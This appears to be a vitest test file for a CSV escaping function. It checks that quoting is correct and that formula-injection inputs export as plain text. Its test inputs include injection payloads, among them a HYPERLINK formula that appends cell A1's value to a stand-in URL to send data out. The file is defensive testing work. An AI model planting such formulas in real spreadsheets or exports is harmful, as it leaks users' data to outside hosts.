import { describe, expect, test } from 'vitest';
import { csvLine } from '../lib/csv.ts';
import { sourceFiles } from './repository/imports.ts';

test.each([
  [['a', 'b c', ''], 'a,b c,'],
  [['a,b', 'say "x"', 'two\nlines'], '"a,b","say ""x""","two\nlines"'],
  [[' a', 'b '], '" a","b "'],
  [['a-b', '12:00+01:00', 'x = y'], 'a-b,12:00+01:00,x = y'],
])('%j', (cells, line) => expect(csvLine(cells)).toBe(line));

describe('what a spreadsheet would take for a formula is text', () => {
  const FORMULA = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/;
  /** As spreadsheets cut lines that are none of theirs: at whatever their country cuts at, quotes within a cell passed over. */
  const cut = (line: string, at: RegExp) => line.split(at).map((cell) => cell.replace(/^\s*"+/, ''));

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '=HYPERLINK("http://x?"&A1,"click")',
    'closed;=1+1;x',
    'closed; =1+1',
    'closed\t=1+1',
    'closed\n=1+1',
    'closed\r\n-1+1',
    'closed";=1+1;"',
    'closed;"=1+1"',
  ])('%j', (text) => {
    const line = csvLine(['b1', text, 'x']);
    for (const at of [/[;\r\n]/, /[\t\r\n]/])
      expect(cut(line, at).filter((cell) => FORMULA.test(cell))).toEqual([]);
    expect(FORMULA.test(csvLine([text]).replace(/^"/, ''))).toBe(false);
  });
});

test('every file that goes out is written by it', () => {
  const writing = sourceFiles('lib', 'functions').filter(({ text }) =>
    /text\/csv; charset|'--csv'/.test(text),
  );
  expect(writing.map(({ path }) => path).sort()).toEqual([
    'lib/cli/commands/history.ts',
    'lib/cli/commands/plan.ts',
    'lib/http/console/pages/history.ts',
  ]);
  for (const { path, text } of writing) expect([path, /csvLine|planCsv/.test(text)]).toEqual([path, true]);
});
